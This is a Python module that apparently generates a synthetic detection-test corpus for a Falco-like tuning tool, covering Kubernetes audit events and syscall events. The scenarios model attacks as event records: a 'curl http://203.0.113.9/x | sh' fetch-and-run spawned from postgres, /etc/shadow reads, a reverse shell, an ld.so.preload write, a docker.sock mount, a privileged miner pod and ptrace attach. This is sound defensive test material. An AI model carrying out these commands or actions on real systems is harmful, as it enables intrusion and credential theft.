"""Our own recorded activity: the detection-guard corpus and the syscall stream ``tune --local`` replays.

Owns: building those events (Kubernetes audit events and normalized syscall events, written here, not captured
from any machine) and writing them as package data under ``falcoctl_py/data/``. The files are generated, never
edited by hand: ``python -m falcoctl_py.tuning.scenarios --write`` regenerates them, and a test fails when they
are stale.

The guard corpus holds known-bad activity, at least one scenario per rule of the bundled default ruleset, several
of them deliberately close to benign noise (same program, other image; same user, other namespace) so that an
exception broader than its evidence is caught. The syscall stream is a node's benign activity with three noisy
patterns a tuning run should explain: a backup agent reading /etc/shadow, readiness probes spawning shells in a
database container, and a config renderer writing below /etc.
"""

from __future__ import annotations

import argparse
import random
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import yaml

from engine.events.syscall import ContainerInfo, FdInfo, ProcessInfo, SyscallEvent

DATA = Path(__file__).resolve().parent.parent / "data"
T0 = 1_790_000_000_000_000_000  # ns; a fixed start so files are reproducible
O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC, O_CLOEXEC = 0, 1, 0o100, 0o1000, 0o2000000
PTRACE_ATTACH = 16


# -- Kubernetes audit --------------------------------------------------------------------------------------------

def _stamp(ns: int) -> str:
    secs, rest = divmod(ns, 1_000_000_000)
    return datetime.fromtimestamp(secs, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S") + f".{rest // 1000:06d}Z"


def audit_event(*, n: int, verb: str, user: str, resource: str, namespace: str | None = None,
                name: str | None = None, subresource: str | None = None, code: int = 200,
                agent: str = "kubectl/v1.31.2 (linux/amd64)", group: str = "", query: str = "",
                request: dict[str, Any] | None = None, groups: tuple[str, ...] = ("system:authenticated",),
                ) -> dict[str, Any]:
    path = ("/api/v1" if not group else f"/apis/{group}/v1") + (f"/namespaces/{namespace}" if namespace else "")
    path += f"/{resource}" + (f"/{name}" if name else "") + (f"/{subresource}" if subresource else "")
    ref = {k: v for k, v in (("resource", resource), ("namespace", namespace), ("name", name),
                             ("subresource", subresource), ("apiGroup", group or None), ("apiVersion", "v1"))
           if v}
    ts = T0 + n * 1_000_000
    event: dict[str, Any] = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
        "auditID": str(uuid.UUID(int=random.Random(n).getrandbits(128), version=4)),
        "stage": "ResponseComplete", "requestURI": path + (f"?{query}" if query else ""), "verb": verb,
        "user": {"username": user, "groups": list(groups)}, "sourceIPs": ["203.0.113.7"], "userAgent": agent,
        "objectRef": ref, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": _stamp(ts - 2_000_000), "stageTimestamp": _stamp(ts),
        "annotations": {"authorization.k8s.io/decision": "allow" if code < 400 else "forbid",
                        "authorization.k8s.io/reason": "RBAC: allowed"},
    }
    if request is not None:
        event["requestObject"] = request
        meta = request.get("metadata", {})
        event["responseObject"] = {**request, "metadata": {**meta, "name": meta.get("name") or "pod-7f9c"}}
    return event


def pod(*, ns: str, image: str, privileged: bool = False, host_path: str | None = None) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "main", "image": image}
    spec: dict[str, Any] = {"containers": [container]}
    if privileged:
        container["securityContext"] = {"privileged": True}
    if host_path:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": host_path}}]
        container["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "pod-7f9c", "namespace": ns}, "spec": spec}


RS = "system:serviceaccount:kube-system:replicaset-controller"

AUDIT_SCENARIOS: list[dict[str, Any]] = [
    {"name": "privileged-pod-from-deployment", "expect_rules": ["FPY Privileged Pod Created"],
     "desc": "a compromised Deployment starts a privileged crypto miner through the replicaset controller",
     "events": [audit_event(n=1, verb="create", user=RS, resource="pods", namespace="shop", code=201,
                            agent="kube-controller-manager/v1.31.2",
                            request=pod(ns="shop", image="docker.io/evil/xmrig:latest", privileged=True))]},
    {"name": "privileged-pod-by-user", "expect_rules": ["FPY Privileged Pod Created"],
     "desc": "a user creates a privileged pod directly",
     "events": [audit_event(n=2, verb="create", user="mallory@example.com", resource="pods", namespace="default",
                            code=201, request=pod(ns="default", image="alpine:3.20", privileged=True))]},
    {"name": "docker-socket-mount", "expect_rules": ["FPY Pod Mounts Sensitive Host Path"],
     "desc": "a pod mounts the container runtime socket to escape to the node",
     "events": [audit_event(n=3, verb="create", user=RS, resource="pods", namespace="payments", code=201,
                            agent="kube-controller-manager/v1.31.2",
                            request=pod(ns="payments", image="alpine:3.20", host_path="/var/run/docker.sock"))]},
    {"name": "exec-into-payments", "expect_rules": ["FPY Exec Or Attach Into Pod"],
     "desc": "the CI identity opens a shell in a payments pod",
     "events": [audit_event(n=4, verb="create", user="ci-deployer", resource="pods", namespace="payments",
                            name="payments-api-0", subresource="exec", code=101,
                            query="command=sh&container=main&stdin=true&tty=true")]},
    {"name": "cluster-admin-binding", "expect_rules": ["FPY Binding To Cluster Admin"],
     "desc": "the CI identity grants itself cluster-admin",
     "events": [audit_event(n=5, verb="create", user="ci-deployer", resource="clusterrolebindings",
                            group="rbac.authorization.k8s.io", name="ci-admin", code=201,
                            request={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                                     "metadata": {"name": "ci-admin"},
                                     "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                                                 "name": "cluster-admin"},
                                     "subjects": [{"kind": "User", "name": "ci-deployer"}]})]},
    {"name": "stolen-ci-credentials-read-payments-secret", "expect_rules": ["FPY Secret Read By Non-System User"],
     "desc": "the CI identity's token, stolen, reads the payments database secret with curl",
     "events": [audit_event(n=6, verb="get", user="ci-deployer", resource="secrets", namespace="payments",
                            name="payments-db", agent="curl/8.5.0")]},
    {"name": "human-reads-kube-system-secret", "expect_rules": ["FPY Secret Read By Non-System User"],
     "desc": "a developer reads a kube-system secret",
     "events": [audit_event(n=7, verb="get", user="bob@example.com", resource="secrets", namespace="kube-system",
                            name="bootstrap-token-abcdef")]},
    {"name": "anonymous-secret-list", "expect_rules": ["FPY Anonymous Request Allowed"],
     "desc": "anonymous access lists secrets",
     "events": [audit_event(n=8, verb="list", user="system:anonymous", resource="secrets", namespace="default",
                            agent="python-requests/2.32", groups=("system:unauthenticated",))]},
]


# -- syscalls ----------------------------------------------------------------------------------------------------

def _container(cid: str, image: str, *, pod: str, ns: str, labels: dict[str, str] | None = None) -> ContainerInfo:
    repo, _, tag = image.rpartition(":") if ":" in image.rsplit("/", 1)[-1] else (image, "", "latest")
    return ContainerInfo(id=cid, name=pod.rsplit("-", 1)[0], image=image, image_repository=repo, image_tag=tag,
                         runtime="containerd", pod_name=pod, pod_namespace=ns, pod_labels=labels or {})


def _proc(pid: int, exepath: str, args: list[str], *, parent: ProcessInfo | None, uid: int = 0,
          container: ContainerInfo | None = None, user: str | None = None, cwd: str = "/") -> ProcessInfo:
    name = exepath.rsplit("/", 1)[-1][:15]
    return ProcessInfo(pid=pid, tid=pid, ppid=parent.pid if parent else 0, vpid=pid, name=name, exe=exepath,
                       exepath=exepath, args=args, cmdline=" ".join([name, *args]), cwd=cwd, uid=uid, gid=uid,
                       euid=uid, loginuid=0xFFFFFFFF, container_id=container.id if container else "host",
                       parent=parent, user_name=user or ("root" if uid == 0 else None), start_ts=T0)


def execve(ts: int, proc: ProcessInfo, container: ContainerInfo | None) -> SyscallEvent:
    return SyscallEvent(type="execve", dir="<", ts=ts, tid=proc.tid, pid=proc.pid, res=0,
                        args={"exe": proc.exe, "args": proc.args, "cwd": proc.cwd, "comm": proc.name},
                        proc=proc, container=container)


def openat(ts: int, proc: ProcessInfo, path: str, flags: int, container: ContainerInfo | None) -> SyscallEvent:
    directory, _, filename = path.rpartition("/")
    return SyscallEvent(type="openat", dir="<", ts=ts, tid=proc.tid, pid=proc.pid, res=5,
                        args={"fd": 5, "dirfd": -100, "name": path, "flags": flags, "mode": 0o644},
                        proc=proc, container=container,
                        fd=FdInfo(num=5, type="file", name=path, directory=directory or "/", filename=filename,
                                  open_flags=flags))


def connect(ts: int, proc: ProcessInfo, dip: str, dport: int, container: ContainerInfo | None) -> SyscallEvent:
    sip, sport = "10.42.0.17", 40000 + ts % 20000
    return SyscallEvent(type="connect", dir="<", ts=ts, tid=proc.tid, pid=proc.pid, res=0,
                        args={"fd": 7, "tuple": f"{sip}:{sport}->{dip}:{dport}"}, proc=proc, container=container,
                        fd=FdInfo(num=7, type="ipv4", name=f"{sip}:{sport}->{dip}:{dport}", sip=sip, sport=sport,
                                  dip=dip, dport=dport, l4proto="tcp", is_server=False, connected=True))


def ptrace(ts: int, proc: ProcessInfo, target: int, container: ContainerInfo | None) -> SyscallEvent:
    return SyscallEvent(type="ptrace", dir="<", ts=ts, tid=proc.tid, pid=proc.pid, res=0,
                        args={"request": PTRACE_ATTACH, "pid": target, "addr": 0, "data": 0}, proc=proc,
                        container=container)


INIT = _proc(1, "/sbin/init", [], parent=None)
SHIM = _proc(900, "/usr/bin/containerd-shim-runc-v2", ["-namespace", "k8s.io"], parent=INIT)
WEB = _container("4f1c2a9be071", "registry.example.com/shop/web:2.4.1", pod="web-6d9f7-abcde", ns="shop",
                 labels={"app": "web"})
BACKUP = _container("b7a3c11d9e20", "registry.example.com/acme/backup-agent:1.9", pod="backup-7c4d9-xk2lp",
                    ns="backup", labels={"app": "backup"})
PG = _container("0d2e8f4a6b13", "docker.io/library/postgres:16", pod="postgres-0", ns="payments",
                labels={"app": "postgres"})
HAPROXY = _container("9c8b7a6d5e4f", "registry.example.com/acme/haproxy:3.0", pod="edge-5f6d7-q8r9s", ns="edge",
                     labels={"app": "edge"})
MINER = _container("e3e3e3e3e3e3", "docker.io/evil/miner:latest", pod="backup-agent-x", ns="default")


def syscall_scenarios() -> list[dict[str, Any]]:
    web_py = _proc(2101, "/usr/local/bin/python3.12", ["app.py"], parent=SHIM, uid=1000, container=WEB,
                   user="app", cwd="/app")
    pg = _proc(2301, "/usr/lib/postgresql/16/bin/postgres", ["-D", "/var/lib/postgresql/data"], parent=SHIM,
               uid=999, container=PG, user="postgres")
    impostor = _proc(2401, "/usr/local/bin/backup-agent", ["--all"], parent=SHIM, container=MINER, user="root")
    bash = _proc(3001, "/usr/bin/bash", [], parent=INIT, uid=1000, user="dev")
    return [
        {"name": "web-app-reads-shadow", "expect_rules": ["FPY Shadow File Read By Unexpected Program"],
         "desc": "an exploited web app reads /etc/shadow",
         "events": [openat(T0 + 1, web_py, "/etc/shadow", O_RDONLY, WEB)]},
        {"name": "backup-agent-impostor-reads-shadow", "expect_rules": ["FPY Shadow File Read By Unexpected Program"],
         "desc": "a miner image ships a binary named like the backup agent and reads /etc/shadow",
         "events": [openat(T0 + 2, impostor, "/etc/shadow", O_RDONLY, MINER)]},
        {"name": "shell-from-web-app", "expect_rules": ["FPY Shell Spawned In Container"],
         "desc": "the web app spawns a reverse shell",
         "events": [execve(T0 + 3, _proc(2102, "/bin/bash", ["-i"], parent=web_py, uid=1000, container=WEB,
                                         user="app"), WEB)]},
        {"name": "shell-from-postgres", "expect_rules": ["FPY Shell Spawned In Container"],
         "desc": "SQL injection runs COPY ... FROM PROGRAM: postgres spawns sh",
         "events": [execve(T0 + 4, _proc(2302, "/bin/sh", ["-c", "curl http://203.0.113.9/x | sh"], parent=pg,
                                         uid=999, container=PG, user="postgres"), PG)]},
        {"name": "dropper-in-dev-shm", "expect_rules": ["FPY Program Run From Temporary Directory"],
         "desc": "a payload staged in /dev/shm is executed",
         "events": [execve(T0 + 5, _proc(3002, "/dev/shm/.x", [], parent=bash, uid=1000, user="dev"), None)]},
        {"name": "ld-preload-written", "expect_rules": ["FPY Write Below Etc"],
         "desc": "a process installs a library preload for persistence",
         "events": [openat(T0 + 6, web_py, "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC, WEB)]},
        {"name": "haproxy-config-overwritten-by-shell", "expect_rules": ["FPY Write Below Etc"],
         "desc": "an attacker in the edge container rewrites the proxy config",
         "events": [openat(T0 + 7, _proc(2601, "/bin/busybox", ["vi"], parent=SHIM, container=HAPROXY,
                                         user="root"), "/etc/haproxy/haproxy.cfg", O_WRONLY | O_TRUNC, HAPROXY)]},
        {"name": "ptrace-attach-to-sshd", "expect_rules": ["FPY Ptrace Attach"],
         "desc": "a process attaches to another to read its memory",
         "events": [ptrace(T0 + 8, _proc(3003, "/usr/bin/gdb", ["-p", "812"], parent=bash, uid=0), 812, None)]},
    ]


def syscall_sample(count: int = 1500, *, seed: int = 7) -> Iterator[SyscallEvent]:
    """A node's benign activity plus three noisy, explainable patterns (see the module docstring)."""
    rng = random.Random(seed)
    kubelet = _proc(700, "/usr/bin/kubelet", ["--config", "/var/lib/kubelet/config.yaml"], parent=INIT)
    web_py = _proc(2101, "/usr/local/bin/python3.12", ["app.py"], parent=SHIM, uid=1000, container=WEB,
                   user="app", cwd="/app")
    cron = _proc(2201, "/usr/sbin/cron", ["-f"], parent=SHIM, container=BACKUP, user="root")
    agent = _proc(2202, "/usr/local/bin/backup-agent", ["--snapshot", "/host"], parent=cron, container=BACKUP,
                  user="root")
    runc = _proc(2300, "/usr/bin/runc", ["exec"], parent=SHIM)
    confd = _proc(2602, "/usr/local/bin/confd", ["-watch"], parent=SHIM, container=HAPROXY, user="root")
    pid = 5000
    ts = T0
    for _ in range(count):
        ts += rng.randrange(200_000, 2_000_000)
        roll = rng.random()
        pid += 1
        if roll < 0.40:
            yield openat(ts, web_py, rng.choice(["/app/app.py", "/app/templates/index.html",
                                                 "/usr/lib/python3.12/json/__init__.py", "/etc/hosts",
                                                 "/etc/resolv.conf", "/app/static/site.css"]), O_RDONLY, WEB)
        elif roll < 0.58:
            exe = rng.choice(["/usr/sbin/iptables", "/usr/bin/mount", "/usr/bin/du", "/usr/bin/nsenter"])
            yield execve(ts, _proc(pid, exe, ["-n"], parent=kubelet), None)
        elif roll < 0.70:
            yield connect(ts, web_py, rng.choice(["10.43.0.10", "10.43.12.7", "10.43.99.2"]),
                          rng.choice([53, 5432, 6379]), WEB)
        elif roll < 0.82:  # noise: the backup agent snapshots credentials
            yield openat(ts, agent, "/etc/shadow", O_RDONLY | O_CLOEXEC, BACKUP)
        elif roll < 0.92:  # noise: readiness probe through runc exec
            yield execve(ts, _proc(pid, "/bin/sh", ["-c", "pg_isready -U postgres"], parent=runc, uid=999,
                                   container=PG, user="postgres"), PG)
        elif roll < 0.97:  # noise: confd renders the proxy config
            yield openat(ts, confd, rng.choice(["/etc/haproxy/haproxy.cfg", "/etc/haproxy/maps/hosts.map"]),
                         O_WRONLY | O_CREAT | O_TRUNC, HAPROXY)
        else:  # spread: go test binaries run from /tmp, each build its own directory and name
            name = rng.choice(["api", "store", "auth", "cache", "billing", "search", "mail"]) + ".test"
            yield execve(ts, _proc(pid, f"/tmp/go-build{rng.randrange(10**8, 10**9)}/b001/{name}", ["-test.v"],
                                   parent=_proc(pid - 1, "/usr/local/go/bin/go", ["test"], parent=INIT,
                                                uid=1000, user="dev"), uid=1000, user="dev"), None)


def render_files() -> dict[Path, bytes]:
    """Every generated file and its content."""
    files: dict[Path, bytes] = {}
    corpus: list[dict[str, Any]] = []
    for sc in AUDIT_SCENARIOS:
        rel = f"audit/{sc['name']}.jsonl"
        files[DATA / "guard" / rel] = b"".join(orjson.dumps(e) + b"\n" for e in sc["events"])
        corpus.append({"name": sc["name"], "source": "k8s_audit", "events": rel, "expect_rules": sc["expect_rules"],
                       "desc": sc["desc"]})
    for sc in syscall_scenarios():
        rel = f"syscall/{sc['name']}.jsonl"
        files[DATA / "guard" / rel] = b"".join(e.to_json() + b"\n" for e in sc["events"])
        corpus.append({"name": sc["name"], "source": "syscall", "events": rel, "expect_rules": sc["expect_rules"],
                       "desc": sc["desc"]})
    header = ("# Detection-guard corpus: known-bad activity every tuning proposal must keep detecting.\n"
              "# Generated by `python -m falcoctl_py.tuning.scenarios --write`; do not edit by hand.\n")
    files[DATA / "guard" / "corpus.yaml"] = (header + yaml.safe_dump({"scenarios": corpus}, sort_keys=False,
                                                                      width=120)).encode()
    files[DATA / "syscall-sample.jsonl"] = b"".join(e.to_json() + b"\n" for e in syscall_sample())
    return files


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="Regenerate the guard corpus and the syscall sample.")
    ap.add_argument("--write", action="store_true", help="write the files (default: only check they are current)")
    args = ap.parse_args(argv)
    stale = []
    for path, content in render_files().items():
        if not path.exists() or path.read_bytes() != content:
            stale.append(path)
            if args.write:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(content)
    for path in stale:
        print(("wrote " if args.write else "stale: ") + str(path.relative_to(DATA.parent.parent)))
    return 0 if args.write or not stale else 1


if __name__ == "__main__":
    sys.exit(main())
